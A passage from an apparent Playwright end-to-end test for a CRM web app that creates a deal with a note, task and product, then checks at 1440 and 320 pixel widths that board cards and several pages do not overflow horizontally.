  const deal = await tell<number>(page, 'add_deal', { form, process, stage: null, participants: [], lines, op: op() });
  const [file] = await send(page, [{ deal, name }]);
  await ask(page, [
    ['add_note', { deal, text: name, files: [file], op: op() }], ['add_task', { deal, form: { title: name }, op: op() }],
    ['save_product', { product: { id: null, name, code: name, price: '5', currency: 'PLN', active: true } }],
  ]);
  await open(page, `${demo.url}/board/${process}`);
  const [outer, inner] = [column(page, 0), card(page, String(deal))];
  const end = async (of: Locator) => { const box = (await of.boundingBox())!; return box.x + box.width; };
  expect.soft(await end(inner), 'a card is as wide as its column').toBeLessThan(await end(outer));
  for (const width of [1440, 320]) {
    await page.setViewportSize({ width, height: 900 });
    for (const path of [`/board/${process}`, `/deals/${deal}`, '/finance', '/settings', `/settings/deals/processes/${process}`, '/settings/deals/products']) {
      await open(page, demo.url + path);
      expect.soft(await page.evaluate(() => document.documentElement.scrollWidth), `${path}, ${width} wide`).toBeLessThanOrEqual(width);
    }
  }
});
